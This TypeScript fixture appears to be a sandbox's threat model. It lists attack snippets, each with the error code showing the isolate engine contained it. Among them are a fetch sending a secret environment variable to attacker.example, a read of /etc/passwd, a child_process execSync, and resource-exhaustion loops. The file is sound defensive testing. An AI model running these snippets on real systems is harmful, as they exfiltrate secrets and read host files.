// Seed 000's threat model, one snippet per attack, each with the outcome that means the isolate
// engine held. Tight limits keep the demo fast; the defences are the same at the defaults.
import type { ExecutionLimits, SandboxErrorCode } from '@coda/sandbox-core';

/** One attack on the isolate engine. */
export interface IsolateAttack {
  id: string;
  /** The threat model's name for it. */
  attack: string;
  code: string;
  limits?: Partial<ExecutionLimits>;
  /** Error codes that mean the engine contained it. */
  containedBy: readonly SandboxErrorCode[];
  /** Offered as a one-click attack in the playground (not the megabyte-sized ones). */
  inPlayground: boolean;
}

/** 600 000 bytes of source: more than the 512 KiB `maxCodeBytes` default. */
const inflatedCode = `/*${'x'.repeat(600_000)}*/ return 1;`;

/** Every attack row of seed 000, against the layer that owns it: the isolate engine. */
export const isolateAttacks: readonly IsolateAttack[] = [
  {
    id: 'network-exfiltration',
    attack: 'network exfiltration',
    code: "await fetch('https://attacker.example/?d=' + process.env.SECRET);\nreturn 'sent';",
    containedBy: ['RUNTIME'],
    inPlayground: true,
  },
  {
    id: 'host-process-access',
    attack: 'host process access',
    code: 'process.exit(1);',
    containedBy: ['RUNTIME'],
    inPlayground: true,
  },
  {
    id: 'module-escape-require',
    attack: 'module escape (require)',
    code: "const fs = require('fs');\nreturn fs.readFileSync('/etc/passwd', 'utf8');",
    containedBy: ['RUNTIME'],
    inPlayground: true,
  },
  {
    id: 'module-escape-import',
    attack: 'module escape (import)',
    code: "const cp = await import('child_process');\nreturn cp.execSync('id').toString();",
    containedBy: ['RUNTIME'],
    inPlayground: false,
  },
  {
    id: 'function-constructor-escape',
    attack: 'Function-constructor escape',
    code: "return new Function('return process')().env;",
    containedBy: ['RUNTIME'],
    inPlayground: true,
  },
  {
    id: 'sync-cpu',
    attack: 'synchronous CPU exhaustion',
    code: 'while (true) {}',
    limits: { timeoutMs: 1_000 },
    containedBy: ['TIMEOUT'],
    inPlayground: true,
  },
  {
    id: 'async-cpu',
    attack: 'asynchronous CPU exhaustion',
    code: 'while (true) { await Promise.resolve(); }',
    limits: { timeoutMs: 1_000 },
    containedBy: ['TIMEOUT'],
    inPlayground: true,
  },
  {
    id: 'memory-exhaustion',
    attack: 'memory exhaustion',
    code: 'const a = [];\nwhile (true) { a.push(new Array(1_000_000).fill(0)); }',
    limits: { memoryMb: 32, timeoutMs: 10_000 },
    // The seed accepts either: V8 may spend the time limit in GC before giving up.
    containedBy: ['OOM', 'TIMEOUT'],
    inPlayground: true,
  },
  {
    id: 'request-amplification',
    attack: 'request amplification',
    code: "for (let i = 0; i < 10_000; i++) {\n  await dataProxy.request({ resource: 'customers' });\n}\nreturn 'flooded';",
    containedBy: ['LIMIT_EXCEEDED'],
    inPlayground: true,
  },
  {
    id: 'result-flooding',
    attack: 'result flooding',
    code: "return 'x'.repeat(100 * 1024 * 1024);",
    // Refused as too big (VALIDATION), or earlier by the heap limit while serialising (OOM).
    containedBy: ['VALIDATION', 'OOM'],
    inPlayground: true,
  },
  {
    id: 'console-spam',
    attack: 'console spam',
    code: 'for (let i = 0; i < 1e9; i++) console.log(i);',
    limits: { timeoutMs: 2_000 },
    // The console cap drops calls past 1 000; the loop itself then ends by the clock.
    containedBy: ['TIMEOUT'],
    inPlayground: true,
  },
  {
    id: 'code-inflation',
    attack: 'code inflation',
    code: inflatedCode,
    containedBy: ['VALIDATION'],
    inPlayground: false,
  },
];
